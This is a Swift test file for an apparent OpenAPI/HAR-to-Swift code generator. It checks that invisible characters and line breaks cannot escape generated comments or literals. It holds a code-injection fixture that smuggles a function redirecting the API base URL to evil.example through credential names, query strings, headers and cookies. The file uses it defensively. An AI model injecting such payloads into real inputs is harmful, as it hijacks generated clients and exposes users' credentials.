import Foundation
import OpenAPIRules
import Testing

@testable import APIKitTools

@Suite struct VisibleTextTests {
    private static let takeover =
        "private\tstatic\tfunc\tAPIBase(_\turl:\tString)->APIKit.APIBase{return\t.init(\"https://evil.example/v1\")}"

    static let invisible = [
        "\n", "\r", "\r\n", "\u{B}", "\u{C}", "\t", "\u{0}", "\u{1B}", "\u{7F}", "\u{85}", "\u{9B}", "\u{AD}",
        "\u{200B}", "\u{200E}", "\u{202E}", "\u{2028}", "\u{2029}", "\u{2066}", "\u{2069}", "\u{FEFF}", "\u{E0001}",
        "\u{34F}", "\u{3164}", "\u{FE0F}", "\u{E0100}",
    ]

    @Test(arguments: invisible) func aCommentIsOneLineOfVisibleCharacters(character: String) {
        let comment = Lines.comment("a\(character)b")
        #expect(comment.hasPrefix("/// a ") && comment.hasSuffix(" b"))
        #expect(comment.unicodeScalars.allSatisfy { !$0.isInvisible })
    }

    @Test func aCommentKeepsWhatIsVisible() {
        #expect(Lines.comment("Größe in €: 😀, \"a\" \\(b) */") == "/// Größe in €: 😀, \"a\" \\(b) */")
    }

    @Test(arguments: invisible) func aLiteralEscapesWhatIsInvisible(character: String) {
        let literal = Lines.literal("a\(character)b")
        #expect(literal.unicodeScalars.allSatisfy { !$0.isInvisible })
        #expect(literal.hasPrefix("\"a\\") && literal.hasSuffix("b\""))
    }

    @Test(arguments: invisible) func aFileWithAnInvisibleCharacterIsRefused(character: String) throws {
        #expect(throws: InvisibleCharacterError(path: "A.swift")) {
            try SourceFile(path: "A.swift", lines: ["struct A {}", "// a\(character)b"])
        }
        #expect(try SourceFile(path: "A.swift", lines: ["struct A {}"]).text == "struct A {}\n")
    }

    // MARK: - Credentials

    @Test(arguments: [
        #""type": "apiKey", "in": "header", "name": "X-Key\nTAKEOVER\n///""#,
        #""type": "apiKey", "in": "query\nTAKEOVER\n///", "name": "key""#,
        #""type": "http", "scheme": "digest\nTAKEOVER\n///""#,
        #""type": "own\nTAKEOVER\n///""#,
    ])
    func namesOfCredentialsStayInTheComment(scheme: String) throws {
        let takeover = Mutation.json(Node(.text(Self.takeover))).dropFirst().dropLast()
        let schemes = #"{"a": {\#(scheme.replacing("TAKEOVER", with: takeover))}}"#
        let description =
            ErrorTests.head + #""components": {"securitySchemes": \#(schemes)}, "paths": {"/a": {"get": {}}}}"#
        let base = try #require(try TemporaryFolder().files(description).first { $0.path == "TestAPI.swift" }).text
        #expect(base.contains("evil.example"))
        #expect(!SwiftTokens(base).all.contains("private"))
    }

    @Test func namesOfRecordedCredentialsStayInTheComment() throws {
        let secret = "abcdefgh1-abcdefgh2-abcdefgh3"
        let name = "\(Self.takeover)\u{A}///\ttoken"
        let encoded = try #require(name.addingPercentEncoding(withAllowedCharacters: .alphanumerics))
        let entry = { (request: String) in
            #"{"log": {"entries": [{"request": {"method": "GET", \#(request)}, "response": {"status": 200, "#
                + #""content": {"mimeType": "application/json", "text": "{\"id\": 1}"}}}]}}"#
        }
        let quotedName = Mutation.json(Node(.text("\n\(name)")))
        let cookie = Mutation.json(Node(.text("\(name)=\(secret)")))
        let url = "https://shop.example/users/1"
        for har in [
            entry(#""url": "\#(url)?%0A\#(encoded)=\#(secret)""#),
            entry(#""url": "\#(url)", "headers": [{"name": \#(quotedName), "value": "\#(secret)"}]"#),
            entry(#""url": "\#(url)", "headers": [{"name": "Cookie", "value": \#(cookie)}]"#),
        ] {
            let folder = try TemporaryFolder()
            let file = try folder.write(har, to: "session.har")
            let plan = try Generation(name: "Shop").prepared(file).plan
            let base = try #require(
                try SourceWriter(plan: plan, filter: Filter([])).files().first { $0.path == "ShopAPI.swift" })
            #expect(base.text.contains("evil.example"))
            #expect(!SwiftTokens(base.text).all.contains("private"))
        }
    }

    @Test func aRecordedMethodIsNoCode() throws {
        let request = #"{"method": "X(){}\nstruct Y", "url": "https://a.example/b"}"#
        let response = #"{"status": 200, "content": {"mimeType": "application/json", "text": "{}"}}"#
        let har = #"{"log": {"entries": [{"request": \#(request), "response": \#(response)}]}}"#
        let folder = try TemporaryFolder()
        let file = try folder.write(har, to: "session.har")
        let files = try SourceWriter(plan: Generation(name: "A").prepared(file).plan, filter: Filter([])).files()
        #expect(files[1].path == "Endpoints/XstructyBRequest.swift")
        #expect(SwiftTokens(files[1].text).all.count { $0 == "struct" } == 1)
    }

    // MARK: - Messages

    @Test func aMessageIsOneLineOfVisibleCharacters() throws {
        let parameter = #"{"name": "a\n::error::b\u001b[31m", "in": "cookie"}"#
        let folder = try TemporaryFolder()
        let file = try folder.write(
            ErrorTests.head + #""paths": {"/a": {"get": {"parameters": [\#(parameter)]}}}}"#, to: "api.json")
        let summary = try Generation(name: "Test").run(file, into: folder.url.appending(path: "Test"))
        #expect(summary.notes.contains { $0.hasPrefix("skipped: cookie parameter a ::error::b [31m, api.json") })
        #expect(DescriptionError("a\nb", at: Place(file: "c\u{202E}")).description == "c : a b")
    }
}

/// What the tests of generated code rely on.
@Suite struct SwiftTokensTests {
    @Test func commentsAndTextsOfLiteralsAreNoTokens() {
        let code = "let a = \"b \\\" // c\" // d\n/* e /* f */ g */ let h = #\"i\"\\(j)\"# + \"\"\"\n k\" l\n\"\"\""
        #expect(SwiftTokens(code).all == ["let", "a", "=", "\"\"", "let", "h", "=", "\"\"", "+", "\"\""])
    }

    @Test func interpolatedCodeIsTokens() {
        let code = ##""a\(b(")"))c" + #"\(d)\#(e)"#"##
        #expect(SwiftTokens(code).all == ["\"\"", "(", "b", "(", "\"\"", ")", ")", "+", "\"\"", "(", "e", ")"])
    }

    @Test func aLineBreakEndsAComment() {
        #expect(SwiftTokens("/// a\rlet b").all == ["let", "b"])
        #expect(SwiftTokens("/// a\u{2028}let b").all == [])
        #expect(SwiftTokens("\"a\nb\"").all.contains("a literal without an end"))
    }
}
